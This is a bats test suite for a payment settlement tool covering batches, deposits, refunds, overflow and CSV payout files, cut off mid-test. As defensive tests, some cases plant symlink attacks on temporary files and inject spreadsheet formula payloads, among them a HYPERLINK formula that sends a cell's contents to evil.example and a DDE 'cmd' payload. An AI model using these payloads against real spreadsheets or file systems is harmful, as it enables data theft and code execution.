#!/usr/bin/env bats
# wpay-settle: T0/T15 batches by cut-off, the deposit rule, refunds netted
# and carried, replays, --dry-run, payout files, reconciliation, crashes.
# The ledger's zone is Asia/Shanghai (UTC+8) and the cut-off hour 0.

load helper

setup() {
	wpay_setup
	init_ledger
	export WPAY_NOW=2026-10-20T02:00:00Z # 10:00 in Shanghai
	wpay-bind merchant add cafe01 --name "Cafe Lu" --city Beijing --bank-account 6222000011112222 >/dev/null
	wpay-bind merchant approve cafe01 >/dev/null
	wpay-bind merchant add shop02 --name "Shop Two" --city Beijing >/dev/null
	wpay-bind merchant approve shop02 >/dev/null
	buyer_ready 1001
	wpay-bind wallet topup u:1001 --amount 1000.00 --request-no t1 >/dev/null
}

pay() { # pay MERCHANT OUT_TRADE_NO AMOUNT
	wpay-order create "$1" "$2" --amount "$3" | wpay-pay --buyer u:1001 --pin-fd 3 3<<<135790 >/dev/null
}

field() { # field JSON KEY
	jq -r ".$2" <<<"$1"
}

@test "T15 across a month end: paid 20 Oct, due on 5 Nov and not before" {
	pay cafe01 o1 100.00
	export WPAY_NOW=2026-11-05T01:00:00Z
	run --separate-stderr wpay-settle --date 2026-11-04
	assert_success
	assert_output ""
	run --separate-stderr wpay-settle --date 2026-11-05
	assert_success
	assert_equal "$(field "$output" mode)" T15
	assert_equal "$(field "$output" payments)" 1
	assert_equal "$(field "$output" gross)" 10000
	assert_equal "$(field "$output" fees)" 60
	assert_equal "$(field "$output" payout)" 9940
	assert_equal "$(field "$output" cutoff)" 2026-10-20T16:00:00Z
	assert_equal "$(wpay-bind merchant balance cafe01 | jq -r .pending)" 0
	assert_ledger_ok
}

@test "T0 with a deposit: paid today, settled at the next cut-off; the default date is the latest day ended" {
	wpay-bind merchant deposit cafe01 --amount 20000.00 --request-no d1 >/dev/null
	wpay-bind merchant update cafe01 --kind enterprise --verified --settlement T0 >/dev/null
	pay cafe01 o1 50.00
	run --separate-stderr wpay-settle --date 2026-10-20
	assert_success
	assert_output ""
	run --separate-stderr wpay-settle --date 2026-10-21
	assert_failure 75
	[[ "$stderr" == *"has not passed yet"* ]]
	export WPAY_NOW=2026-10-20T16:30:00Z # 00:30 on 21 Oct in Shanghai
	run --separate-stderr wpay-settle
	assert_success
	assert_equal "$(field "$output" date)" 2026-10-21
	assert_equal "$(field "$output" mode)" T0
	assert_equal "$(field "$output" payout)" 4970
	assert_ledger_ok
}

@test "a T0 merchant whose deposit fell below 20,000.00 is topped up from its next payout and stays T0" {
	wpay-bind merchant deposit cafe01 --amount 20000.00 --request-no d1 >/dev/null
	wpay-bind merchant update cafe01 --kind enterprise --verified --settlement T0 >/dev/null
	pay cafe01 o1 50.00
	export WPAY_NOW=2026-10-21T02:00:00Z
	wpay-settle --date 2026-10-21 >/dev/null
	# A refund after settlement comes from the deposit, which falls below the line.
	wpay-refund cafe01 o1 r1 --amount 10.00 >/dev/null
	pay cafe01 o2 30.00
	export WPAY_NOW=2026-10-22T02:00:00Z
	run --separate-stderr wpay-settle --date 2026-10-22
	assert_success
	assert_equal "$(field "$output" mode)" T0
	assert_equal "$(field "$output" note)" null
	assert_equal "$(field "$output" payments)" 1
	assert_equal "$(field "$output" refunds)" 1
	assert_equal "$(field "$output" refunded_from_deposit)" 1000
	assert_equal "$(field "$output" net)" $((3000 - 18))
	assert_equal "$(field "$output" deposit_topup)" 994
	assert_equal "$(field "$output" payout)" $((3000 - 18 - 994))
	assert_equal "$(wpay-bind merchant balance cafe01 | jq -c '[.deposit, .deposit_shortfall]')" '[2000000,0]'
	assert_equal "$(wpay-bind merchant show cafe01 | jq -r .settlement)" T0
	assert_ledger_ok
}

@test "a T0 deposit is held while payments paid out at T0 can be refunded; after their window it can go" {
	wpay-bind merchant deposit cafe01 --amount 20000.00 --request-no d1 >/dev/null
	wpay-bind merchant update cafe01 --kind enterprise --verified --settlement T0 >/dev/null
	pay cafe01 o1 50.00
	export WPAY_NOW=2026-10-21T02:00:00Z
	wpay-settle --date 2026-10-21 >/dev/null
	# Paid out already: withdrawing the deposit now would leave o1's refund to the platform.
	before=$(ledger_digest)
	run --separate-stderr wpay-bind merchant withdraw cafe01 --amount 20000.00 --request-no w1
	assert_failure 1
	assert_equal "$(jq -r .code <<<"$output")" deposit_held
	assert_equal "$stderr" "wpay-bind: m:cafe01 must keep 20000.00 CNY of deposit while payments it was paid at T0 can still be refunded (order o1 and maybe others); it holds 20000.00 CNY, so at most 0.00 CNY can be withdrawn until their refund window is over"
	run --separate-stderr wpay-bind merchant withdraw cafe01 --amount 0.01 --request-no w2
	assert_equal "$(jq -r .code <<<"$output")" deposit_held
	# Going back to T15 first does not free it: those refunds still come due.
	wpay-bind merchant update cafe01 --settlement T15 >/dev/null
	run --separate-stderr wpay-bind merchant withdraw cafe01 --amount 20000.00 --request-no w1
	assert_equal "$(jq -r .code <<<"$output")" deposit_held
	wpay-bind merchant update cafe01 --kind enterprise --verified --settlement T0 >/dev/null
	# What is above the line may go, and the merchant stays T0.
	wpay-bind merchant deposit cafe01 --amount 100.00 --request-no d2 >/dev/null
	run --separate-stderr wpay-bind merchant withdraw cafe01 --amount 100.01 --request-no w3
	assert_equal "$(jq -r .code <<<"$output")" deposit_held
	[[ "$stderr" == *"it holds 20100.00 CNY, so at most 100.00 CNY can be withdrawn"* ]]
	run --separate-stderr wpay-bind merchant withdraw cafe01 --amount 100.00 --request-no w3
	assert_success
	assert_equal "$(jq -r .settlement <<<"$output")" T0
	# A refund still comes from the deposit, which is there.
	run --separate-stderr wpay-refund cafe01 o1 r1 --amount 5.00
	assert_success
	assert_equal "$(jq -r .from <<<"$output")" deposit
	# Once the refund window is over (the order finished), the deposit can go.
	export WPAY_NOW=2027-01-20T02:00:00Z
	assert_equal "$(wpay-order expire | jq -r .finished)" 1
	balance=$(wpay-bind merchant balance cafe01 | jq -r .deposit)
	run --separate-stderr wpay-bind merchant withdraw cafe01 --amount "$(printf '%d.%02d' $((balance / 100)) $((balance % 100)))" --request-no w1
	assert_success
	assert_equal "$(jq -r .settlement <<<"$output")" T15
	assert_equal "$(wpay-bind merchant balance cafe01 | jq -r .deposit)" 0
	assert_ledger_ok
}

@test "a T0 deposit is free once its paid-out orders are refunded in full, or before anything was paid out" {
	for m in cafe01 shop02; do
		wpay-bind merchant deposit $m --amount 20000.00 --request-no d1 >/dev/null
		wpay-bind merchant update $m --kind enterprise --verified --settlement T0 >/dev/null
	done
	pay cafe01 o1 50.00
	export WPAY_NOW=2026-10-21T02:00:00Z
	wpay-settle --date 2026-10-21 >/dev/null
	wpay-refund cafe01 o1 r1 --amount 50.00 >/dev/null
	assert_equal "$(wpay-order query cafe01 o1 | jq -r .state)" closed
	run --separate-stderr wpay-bind merchant withdraw cafe01 --amount 1000.00 --request-no w1
	assert_success
	# Paid, not yet settled: the money is still in pending, so nothing is held.
	pay shop02 o1 50.00
	run --separate-stderr wpay-bind merchant withdraw shop02 --amount 20000.00 --request-no w1
	assert_success
	assert_equal "$(jq -r .settlement <<<"$output")" T15
	assert_ledger_ok
}

@test "refunds before settlement are netted; a negative net is carried into the next batch" {
	pay cafe01 o1 100.00
	wpay-refund cafe01 o1 r1 --amount 40.00 >/dev/null
	export WPAY_NOW=2026-11-05T01:00:00Z
	run --separate-stderr wpay-settle --date 2026-11-05
	assert_equal "$(field "$output" refunded)" 4000
	assert_equal "$(field "$output" fees_returned)" 24
	assert_equal "$(field "$output" net)" $((10000 - 60 - 4000 + 24))
	# After settlement a T15 merchant's refund leaves pending below zero...
	wpay-refund cafe01 o1 r2 --amount 60.00 >/dev/null
	assert_equal "$(wpay-bind merchant balance cafe01 | jq -r .pending)" $((-6000 + 36))
	export WPAY_NOW=2026-11-06T01:00:00Z
	run --separate-stderr wpay-settle --date 2026-11-06
	assert_equal "$(field "$output" net)" $((-6000 + 36))
	assert_equal "$(field "$output" payout)" 0
	assert_equal "$(field "$output" carried_out)" $((-6000 + 36))
	# ...and the next batch takes it from what it pays out.
	export WPAY_NOW=2026-11-07T02:00:00Z
	pay cafe01 o2 100.00
	export WPAY_NOW=2026-11-23T01:00:00Z
	run --separate-stderr wpay-settle --date 2026-11-23
	assert_equal "$(field "$output" carried_in)" $((-6000 + 36))
	assert_equal "$(field "$output" payout)" $((10000 - 60 - 6000 + 36))
	assert_equal "$(wpay-bind merchant balance cafe01 | jq -r .pending)" 0
	assert_ledger_ok
}

# Issue 10, M2: 9,000 payments of 10^15 to one merchant, 9,000 refunds
# and 1,000 more made the settlement's sums pass int64, and wpay-settle
# ended with status 70, settling no one. Now the card that pays, and the
# merchant's pending balance, stop at 10^15: the rest are refused, each
# with a record, and the settlement sums what was paid.
@test "9,000 payments of 10^15, 9,000 refunds and 1,000 more: refused past the limit; settle settles" {
	cd "$BATS_TEST_TMPDIR"
	wpay-bind user add 1002 --nickname Mo >/dev/null
	wpay-bind wallet add 1002@example.com >/dev/null
	wpay-bind user bind 1002 1002@example.com >/dev/null
	wpay-bind card add u:1002 --pan-fd 3 3<<<5555555555554444 >/dev/null
	wpay-bind pin set u:1002 --pin-fd 3 3<<<135790 >/dev/null
	pay shop02 s1 10.00
	orders() { # orders PREFIX N
		seq "$2" | awk -v p="$1" '{ printf "{\"type\":\"order\",\"merchant\":\"cafe01\",\"out_trade_no\":\"%s%d\",\"amount\":1000000000000000}\n", p, $1 }' | wpay-order
	}
	status=0
	orders a 9000 | wpay-pay --buyer u:1002 --source card --pin-fd 3 3<<<135790 >paid.jsonl 2>/dev/null || status=$?
	assert_equal "$status" 1
	assert_equal "$(jq -r '.code // .type' paid.jsonl | sort | uniq -c | tr -s ' ')" " 8999 balance_limit
 1 payment"
	seq 9000 | awk '{ printf "{\"merchant\":\"cafe01\",\"out_trade_no\":\"a%d\",\"out_request_no\":\"r%d\",\"amount\":1000000000000000}\n", $1, $1 }' |
		wpay-refund >refunded.jsonl 2>/dev/null || true
	assert_equal "$(jq -r 'select(.type == "refund") | .type' refunded.jsonl | wc -l)" 1
	orders b 1000 | wpay-pay --buyer u:1002 --source card --pin-fd 3 3<<<135790 >paid.jsonl 2>/dev/null || true
	assert_equal "$(jq -r '.code // .type' paid.jsonl | sort | uniq -c | tr -s ' ')" " 999 balance_limit
 1 payment"
	export WPAY_NOW=2026-11-06T02:00:00Z
	run --separate-stderr wpay-settle --date 2026-11-05
	assert_success
	assert_equal "$(jq -sc 'map([.merchant, .payments, .refunds, .gross, .refunded])' <<<"$output")" \
		'[["m:cafe01",2,1,2000000000000000,1000000000000000],["m:shop02",1,0,1000,0]]'
	assert_ledger_ok
}

# Nor can a settlement's sums stop the run. 9,300 rounds of paying 10^15
# and refunding it stay within every limit, yet sum past int64; each round
# is a commit, so 9,300 take ~12 s (tried once): one real round is
# copied instead, as its rows would stand.
@test "a settlement whose sums would pass int64 is an error record for that merchant; the others are settled" {
	wpay-bind user add 1002 --nickname Mo >/dev/null
	wpay-bind wallet add 1002@example.com >/dev/null
	wpay-bind user bind 1002 1002@example.com >/dev/null
	wpay-bind card add u:1002 --pan-fd 3 3<<<5555555555554444 >/dev/null
	wpay-bind pin set u:1002 --pin-fd 3 3<<<135790 >/dev/null
	pay shop02 s1 10.00
	wpay-order create cafe01 a1 --amount 10000000000000.00 |
		wpay-pay --buyer u:1002 --source card --pin-fd 3 3<<<135790 >/dev/null
	wpay-refund cafe01 a1 r1 --amount 10000000000000.00 >/dev/null
	# (Copies of rows whose orders are not there: without foreign keys.)
	db_sql_nofk <<-'SQL'
		WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 9300)
		INSERT INTO payments (id, order_id, merchant_id, wallet_id, buyer, source_account, amount, fee, currency,
		    created_at, settlement_id)
		SELECT id || '_' || i, order_id || '_' || i, merchant_id, wallet_id, buyer,
		    source_account, amount, fee, currency, created_at, NULL FROM payments, n WHERE merchant_id = 'cafe01';
		WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 9300)
		INSERT INTO refunds (id, order_id, payment_id, merchant_id, out_request_no, amount, fee_returned, funded_from,
		    reason, created_at, settlement_id)
		SELECT id || '_' || i, order_id || '_' || i, payment_id || '_' || i, merchant_id,
		    out_request_no, amount, fee_returned, funded_from, reason, created_at, NULL FROM refunds, n;
		-- PostgreSQL's replica mode fires no trigger, so queue them as payments_due_add does.
		INSERT INTO payments_due(merchant_id, created_at, payment_id) SELECT merchant_id, created_at, id
		    FROM payments WHERE settlement_id IS NULL ON CONFLICT DO NOTHING;
	SQL
	export WPAY_NOW=2026-11-06T02:00:00Z
	# The forecast says so too, naming the merchant, and foretells the others.
	digest=$(ledger_digest)
	run --separate-stderr wpay-settle --preview
	assert_failure 1
	assert_equal "$(jq -c '[.type, .code, .merchant]' <<<"${lines[0]}")" '["error","sum_overflow","m:cafe01"]'
	assert_equal "$(jq -c '[.type, .merchant, .payments]' <<<"${lines[1]}")" '["forecast","m:shop02",1]'
	[[ "${stderr_lines[0]}" == *"m:cafe01's 9301 payments and 9301 refunds"* ]]
	assert_equal "$(ledger_digest)" "$digest"
	before=$(db_sql 'SELECT count(*) FROM payments WHERE settlement_id IS NULL')
	run --separate-stderr wpay-settle --date 2026-11-05
	assert_failure 1
	assert_equal "$(jq -c '[.type, .code, .ref]' <<<"${lines[0]}")" '["error","sum_overflow",null]'
	assert_equal "$(jq -c '[.merchant, .payments]' <<<"${lines[1]}")" '["m:shop02",1]'
	assert_equal "${stderr_lines[0]}" "wpay-settle: m:cafe01's 9301 payments and 9301 refunds due by 2026-10-20T16:00:00Z add up past what one settlement can hold (9223372036854775807 minor units); settle an earlier --date first, so that fewer fall due at once"
	assert_equal "$(db_sql 'SELECT count(*) FROM payments WHERE settlement_id IS NULL')" $((before - 1))
	assert_ledger_ok
}

@test "a rerun changes nothing and prints the same; --dry-run changes nothing" {
	pay cafe01 o1 100.00
	pay shop02 o1 20.00
	export WPAY_NOW=2026-11-05T01:00:00Z
	before=$(ledger_digest)
	run --separate-stderr wpay-settle --dry-run
	assert_success
	assert_equal "$(jq -s 'map(select(.dry_run)) | length' <<<"$output")" 2
	assert_equal "$(ledger_digest)" "$before"
	first=$(wpay-settle)
	assert_equal "$(jq -s length <<<"$first")" 2
	after=$(ledger_digest)
	run --separate-stderr wpay-settle
	assert_success
	assert_equal "$output" "$first"
	assert_equal "$(ledger_digest)" "$after"
	export WPAY_NOW=2026-10-20T03:00:00Z
	pay cafe01 o9 1.00
	export WPAY_NOW=2026-11-05T01:00:00Z
	run --separate-stderr wpay-settle --date 2026-11-04
	assert_failure 1
	assert_equal "$(jq -r .code <<<"${lines[0]}")" settled_later
	assert_ledger_ok
}

@test "--out writes the payout file and a bill per merchant, whole" {
	pay cafe01 o1 100.00
	wpay-refund cafe01 o1 r1 --amount 10.00 >/dev/null
	export WPAY_NOW=2026-11-05T01:00:00Z
	run --separate-stderr wpay-settle --out "$BATS_TEST_TMPDIR/out"
	assert_success
	sid=$(field "$output" id)
	assert_equal "$(cat "$BATS_TEST_TMPDIR/out/payouts-2026-11-05.csv")" "payee,account,amount,currency,reference
m:cafe01,6222000011112222,89.46,CNY,$sid"
	bill="$BATS_TEST_TMPDIR/out/bill-2026-11-05-cafe01.csv"
	# The lines of wpay-bill's trade bill (its one writer), then the settlement's own.
	assert_equal "$(sed -n 1p "$bill")" "time,order,out_trade_no,id,out_request_no,kind,amount,fee,net,currency,buyer,subject,settlement,settlement_date,discount,promotion"
	assert_equal "$(awk -F, '$6 == "payment"' "$bill" | wc -l)" 1
	assert_equal "$(awk -F, '$6 == "refund" { print $5 "," $7 "," $8 "," $9 "," $10 "," $13 }' "$bill")" "r1,-10.00,-0.06,-9.94,CNY,$sid"
	assert_equal "$(awk -F, '$6 == "total" { print $7 "," $8 "," $9 "," $12 }' "$bill")" "90.00,0.54,89.46,payments 1 refunds 1"
	assert_equal "$(awk -F, '$6 == "payout" { print $9 }' "$bill")" 89.46
	assert_equal "$(ls "$BATS_TEST_TMPDIR/out" | grep -c tmp)" 0
	run --separate-stderr wpay-settle --out "$BATS_TEST_TMPDIR/out"
	assert_success
	assert_equal "$(awk -F, '$6 == "payment"' "$bill" | wc -l)" 1
	run --separate-stderr wpay-settle --out /proc/no/such
	assert_failure 73
}

@test "--out never writes through a link planted where it puts its files" {
	pay cafe01 o1 100.00
	export WPAY_NOW=2026-11-05T01:00:00Z
	out="$BATS_TEST_TMPDIR/out"
	mkdir "$out"
	printf 'precious\n' >"$BATS_TEST_TMPDIR/victim"
	printf 'precious too\n' >"$BATS_TEST_TMPDIR/victim2"
	# Links at every temporary name a pid-named writer could pick (the run's
	# own pid: the planter execs it), and at the bill's own name.
	run --separate-stderr python3 - "$out" "$BATS_TEST_TMPDIR" <<-'PY'
		import os, sys
		out, tmp = sys.argv[1], sys.argv[2]
		me = os.getpid()
		for pid in range(max(2, me - 200), me + 2000):
		    for name in ("payouts-2026-11-05.csv", "bill-2026-11-05-cafe01.csv"):
		        os.symlink(tmp + "/victim", "%s/%s.tmp.%d" % (out, name, pid))
		os.symlink(tmp + "/victim2", out + "/bill-2026-11-05-cafe01.csv")
		os.symlink(tmp + "/victim2", out + "/payouts-2026-11-05.csv")
		os.execvp("wpay-settle", ["wpay-settle", "--out", out])
	PY
	assert_success
	sid=$(field "$output" id)
	assert_equal "$(cat "$BATS_TEST_TMPDIR/victim")" precious
	assert_equal "$(cat "$BATS_TEST_TMPDIR/victim2")" "precious too"
	[ -f "$out/payouts-2026-11-05.csv" ] && [ ! -L "$out/payouts-2026-11-05.csv" ]
	assert_equal "$(cat "$out/payouts-2026-11-05.csv")" "payee,account,amount,currency,reference
m:cafe01,6222000011112222,99.40,CNY,$sid"
	[ -f "$out/bill-2026-11-05-cafe01.csv" ] && [ ! -L "$out/bill-2026-11-05-cafe01.csv" ]
	assert_equal "$(awk -F, '$6 == "payment"' "$out/bill-2026-11-05-cafe01.csv" | wc -l)" 1
	# Written for its owner only: a payout file names bank accounts.
	assert_equal "$(stat -c %a "$out/payouts-2026-11-05.csv")" 600
	assert_equal "$(stat -c %a "$out/bill-2026-11-05-cafe01.csv")" 600
	# No temporary file of its own is left; the planted links are all still links.
	assert_equal "$(find "$out" -name '*.tmp.*' ! -type l | wc -l)" 0
}

@test "payout files and bills neutralise spreadsheet formulas and quote per RFC 4180; amounts stay numbers" {
	wpay-bind merchant add shop03 --name "Shop Three" --city Beijing >/dev/null
	wpay-bind merchant approve shop03 >/dev/null
	pay cafe01 o1 100.00
	pay cafe01 o2 20.00
	pay cafe01 o3 30.00
	pay shop02 o1 20.00
	pay shop03 o1 30.00
	wpay-refund cafe01 o1 r1 --amount 10.00 >/dev/null
	# Values stored before they were checked where they enter: old data, put in directly.
	# (A tab as the SQL text itself: char(9) is SQLite's, chr(9) PostgreSQL's.)
	tab=$'\t'
	db_sql <<-SQL
		UPDATE merchants SET bank_account = '=HYPERLINK("http://evil.example/?"&A1,"Click")' WHERE id = 'cafe01';
		UPDATE merchants SET bank_account = '@SUM(1)' WHERE id = 'shop02';
		UPDATE merchants SET bank_account = '+1' WHERE id = 'shop03';
		UPDATE orders SET out_trade_no = '-2+3+cmd|'' /C calc''!A0' WHERE merchant_id = 'cafe01' AND out_trade_no = 'o1';
		UPDATE orders SET out_trade_no = 'a,"b";c' WHERE merchant_id = 'cafe01' AND out_trade_no = 'o2';
		UPDATE orders SET out_trade_no = '$tab=1+1' WHERE merchant_id = 'cafe01' AND out_trade_no = 'o3';
	SQL
	export WPAY_NOW=2026-11-05T01:00:00Z
	out="$BATS_TEST_TMPDIR/out"
	run --separate-stderr wpay-settle --out "$out"
	assert_success
	payouts="$out/payouts-2026-11-05.csv"
	bill="$out/bill-2026-11-05-cafe01.csv"
	# The exact lines: a guarded field is quoted when it holds , " or ;.
	assert_equal "$(sed -n 2p "$payouts" | cut -d, -f1-4)" 'm:cafe01,"'"'"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",139.16'
	assert_equal "$(sed -n 3p "$payouts" | cut -d, -f1-3)" "m:shop02,'@SUM(1),19.88"
	assert_equal "$(sed -n 4p "$payouts" | cut -d, -f1-3)" "m:shop03,'+1,29.82"
	# Read back as a spreadsheet would: every text field that began like a
	# formula now begins with a quote; every amount is a number, negative ones too.
	run python3 - "$payouts" "$bill" <<-'PY'
		import csv, sys
		payouts = list(csv.reader(open(sys.argv[1], newline="")))
		bill = list(csv.reader(open(sys.argv[2], newline="")))
		assert [r[1] for r in payouts[1:]] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'@SUM(1)", "'+1"], payouts
		trades = [r for r in bill[1:] if r[5] in ("payment", "refund")]
		assert sorted(r[2] for r in trades) == sorted(["'-2+3+cmd|' /C calc'!A0", 'a,"b";c', "'\t=1+1", "'-2+3+cmd|' /C calc'!A0"]), trades
		for r in bill[1:]:
		    assert len(r) == 16, r
		    for cell in r[6:9]:
		        assert cell == "" or float(cell) is not None, r
		refund = [r for r in bill if r[5] == "refund"][0]
		assert refund[6:9] == ["-10.00", "-0.06", "-9.94"], refund
		for rows in (payouts, bill):
		    for r in rows:
		        for cell in r:
		            assert not (cell[:1] in ("=", "+", "@", "\t", "\r") or (cell[:1] == "-" and not cell[1:].replace(".", "").isdigit())), cell
		print("ok")
	PY
	assert_success
	assert_output ok
}

@test "a crash between two merchants leaves the first settled; the rerun completes the rest" {
	pay cafe01 o1 100.00
	pay shop02 o1 20.00
	export WPAY_NOW=2026-11-05T01:00:00Z
	run --separate-stderr env WPAY_CRASH=settle:2 wpay-settle --batch-size 1
	assert_failure 137
	assert_equal "$(db_sql 'SELECT merchant_id FROM settlements')" cafe01
	assert_ledger_ok
	run --separate-stderr wpay-settle
	assert_success
	assert_equal "$(jq -sc 'map(.merchant)' <<<"$output")" '["m:cafe01","m:shop02"]'
	assert_equal "$(db_sql 'SELECT count(*) FROM payments WHERE settlement_id IS NULL')" 0
	assert_ledger_ok
}

@test "reconciliation finds each kind of difference, and agrees when there is none" {
	pay cafe01 o1 100.00
	pay cafe01 o2 20.00
	pay cafe01 o3 30.00
	wpay-refund cafe01 o3 r1 --amount 30.00 >/dev/null
	pay cafe01 o5 10.00
	cat >"$BATS_TEST_TMPDIR/ours.csv" <<-EOF
	out_trade_no,amount,status,fee
	o1,100.00,TRADE_SUCCESS,0.60
	o2,25.00,paid,0.12
	o3,30.00,paid,0.18
	o4,5.00,paid,
	o5,10.00,paid,0.07
	EOF
	run --separate-stderr wpay-settle --reconcile "$BATS_TEST_TMPDIR/ours.csv" --merchant cafe01
	assert_failure 1
	assert_equal "$(jq -sc '[.[] | select(.type == "difference") | [.kind, .out_trade_no]]' <<<"$output")" \
		'[["amount_mismatch","o2"],["status_mismatch","o3"],["fee_mismatch","o5"],["missing_here","o4"]]'
	assert_equal "$(jq -sc '.[-1] | [.compared, .differences, .agree]' <<<"$output")" '[5,4,false]'
	wpay-order query cafe01 o1 | jq -c '{out_trade_no, amount, status: .state}' >"$BATS_TEST_TMPDIR/ours.jsonl"
	run --separate-stderr wpay-settle --reconcile "$BATS_TEST_TMPDIR/ours.jsonl" --merchant cafe01
	assert_failure 1
	assert_equal "$(jq -sc '[.[] | select(.kind == "missing_there") | .out_trade_no]' <<<"$output")" '["o2","o3","o5"]'
	export WPAY_NOW=2026-11-05T01:00:00Z
	wpay-settle >/dev/null
	for o in o1 o2 o3 o5; do
		wpay-order query cafe01 $o |
			jq -c '{out_trade_no, amount, status: (if .close_reason == "refunded" then "refunded" else .state end)}'
	done >"$BATS_TEST_TMPDIR/ours.jsonl"
	run --separate-stderr wpay-settle --reconcile "$BATS_TEST_TMPDIR/ours.jsonl" --merchant cafe01 --date 2026-11-05
	assert_success
	assert_equal "$(jq -c '[.compared, .agree]' <<<"$output")" '[4,true]'
}

@test "bad requests: dates, zones, files and options are refused with a reason" {
	run --separate-stderr wpay-settle --date 2026-02-30
	assert_failure 64
	[[ "$stderr" == *"not a calendar date"* ]]
	run --separate-stderr wpay-init --settle-tz ../etc/passwd
	assert_failure 64
	run --separate-stderr wpay-init --settle-tz Mars/Olympus
	assert_failure 64
	run --separate-stderr wpay-init --cutoff-hour 24
	assert_failure 64
	run --separate-stderr wpay-init --settle-tz Europe/London --cutoff-hour 18
	assert_success
	assert_equal "$(jq -c '[.settle_tz, .settle_cutoff_hour]' <<<"$output")" '["Europe/London",18]'
	run --separate-stderr wpay-settle --reconcile "$BATS_TEST_TMPDIR/none.csv" --merchant cafe01
	assert_failure 66
	printf 'no,amount\n1,2\n' >"$BATS_TEST_TMPDIR/bad.csv"
	run --separate-stderr wpay-settle --reconcile "$BATS_TEST_TMPDIR/bad.csv" --merchant cafe01
	assert_failure 65
	[[ "$stderr" == *"needs a header"* ]]
	printf 'out_trade_no,amount,status\no1,1e3,paid\n' >"$BATS_TEST_TMPDIR/bad.csv"
	run --separate-stderr wpay-settle --reconcile "$BATS_TEST_TMPDIR/bad.csv" --merchant cafe01
	assert_failure 65
	run --separate-stderr wpay-settle --reconcile "$BATS_TEST_TMPDIR/bad.csv" --merchant nobody
	assert_failure 65
	run --separate-stderr wpay-settle --reconcile x
	assert_failure 64
	run --separate-stderr wpay-settle --dry-run --out x
	assert_failure 64
}

# What a settlement record and a forecast of it share.
settled_fields='[.merchant, .date, .mode, .note, .cutoff, .currency, .payments, .gross, .fees, .refunds, .refunded,
	.fees_returned, .refunded_from_deposit, .carried_in, .net, .payout, .carried_out, .payout_account]'

# Settle each date the forecast names in turn, at 10:00 in Shanghai that
# day, and check that each merchant's settlement is its forecast.
settle_as_foretold() { # settle_as_foretold FORECAST_FILE
	local day
	for day in $(jq -r .date "$1" | sort -u); do
		export WPAY_NOW="${day}T02:00:00Z"
		wpay-settle --date "$day" >"$BATS_TEST_TMPDIR/settled"
		assert_equal "$(jq -c "select(.date == \"$day\") | $settled_fields" "$1" | sort)" \
			"$(jq -c "$settled_fields" "$BATS_TEST_TMPDIR/settled" | sort)"
	done
}

@test "--preview foretells each date's settlement: T0, T15, the deposit rule, refunds; nothing is written; settle then does it" {
	wpay-bind merchant deposit cafe01 --amount 20000.00 --request-no d1 >/dev/null
	wpay-bind merchant update cafe01 --kind enterprise --verified --settlement T0 >/dev/null
	wpay-bind merchant add tea03 --name "Tea Three" --city Beijing >/dev/null
	wpay-bind merchant approve tea03 >/dev/null
	wpay-bind merchant deposit tea03 --amount 20000.00 --request-no d3 >/dev/null
	wpay-bind merchant update tea03 --kind enterprise --verified --settlement T0 >/dev/null
	export WPAY_NOW=2026-10-10T02:00:00Z
	pay shop02 s0 20.00
	pay tea03 t0 5.00
	export WPAY_NOW=2026-10-11T02:00:00Z
	wpay-settle >/dev/null
	# Refunded after settlement, from the deposit, which falls below the line.
	wpay-refund tea03 t0 r0 --amount 1.00 >/dev/null
	export WPAY_NOW=2026-10-20T02:00:00Z # 10:00 on 20 Oct in Shanghai
	pay cafe01 o1 50.00
	pay shop02 s1 10.00
	pay tea03 t1 5.00
	wpay-refund shop02 s0 r1 --amount 5.00 >/dev/null
	wpay-refund cafe01 o1 r1 --amount 1.00 >/dev/null
	before=$(ledger_digest)
	run --separate-stderr wpay-settle --preview
	assert_success
	assert_equal "$(ledger_digest)" "$before"
	echo "$output" >"$BATS_TEST_TMPDIR/forecast"
	assert_equal "$(jq -r '[.type, .merchant, .date, .mode, .payments, .refunds, .payout] | join(" ")' <<<"$output")" \
		"forecast m:cafe01 2026-10-21 T0 1 1 $((5000 - 30 - 100 + 0))
forecast m:shop02 2026-10-26 T15 1 1 $((2000 - 12 - 500 + 3))
forecast m:shop02 2026-11-05 T15 1 0 $((1000 - 6))
forecast m:tea03 2026-10-20 T0 0 1 0
forecast m:tea03 2026-10-21 T0 1 0 $((500 - 3 - 100))"
	# A refund alone pays nothing out to make the deposit up: the next payout does.
	assert_equal "$(jq -r 'select(.merchant == "m:tea03") | [.deposit_topup, .note] | join(" ")' <<<"$output")" \
		"0 the deposit was 1.00 CNY short and this payout put 0.00 CNY back; the next payout makes up the rest
100 "
	assert_equal "$(jq -r 'select(.merchant == "m:tea03" and .refunds == 1) | .refunded_from_deposit' <<<"$output")" 100
	assert_equal "$(jq -r 'select(.merchant == "m:cafe01") | .payout_account' <<<"$output")" 6222000011112222
	# One merchant, and from a later date on.
	run --separate-stderr wpay-settle --preview --merchant m:shop02
	assert_equal "$(jq -r .date <<<"$output" | tr '\n' ' ')" "2026-10-26 2026-11-05 "
	run --separate-stderr wpay-settle --preview --merchant shop02 --date 2026-10-30
	assert_equal "$(jq -r '[.date, .payments, .refunds] | join(" ")' <<<"$output")" "2026-10-30 1 1
2026-11-05 1 0"
	assert_equal "$(ledger_digest)" "$before"
	settle_as_foretold "$BATS_TEST_TMPDIR/forecast"
	assert_ledger_ok
	# All settled: nothing more to foretell.
	run --separate-stderr wpay-settle --preview
	assert_success
	assert_output ""
}

@test "--preview carries a negative net from date to date, as settle does, and starts after the last settled date" {
	pay shop02 s1 100.00
	export WPAY_NOW=2026-11-05T02:00:00Z
	wpay-settle >/dev/null
	# After settlement the refund leaves pending below zero; today's
	# payment is settled on 21 Nov and does not cover it.
	wpay-refund shop02 s1 r1 --amount 60.00 >/dev/null
	pay shop02 s2 10.00
	export WPAY_NOW=2026-11-05T20:00:00Z # 04:00 on 6 Nov in Shanghai
	pay shop02 s3 20.00
	before=$(ledger_digest)
	run --separate-stderr wpay-settle --preview
	assert_success
	assert_equal "$(ledger_digest)" "$before"
	echo "$output" >"$BATS_TEST_TMPDIR/forecast"
	assert_equal "$(jq -r '[.date, .payments, .refunds, .carried_in, .net, .payout, .carried_out] | join(" ")' <<<"$output")" \
		"2026-11-06 0 1 0 $((-6000 + 36)) 0 $((-6000 + 36))
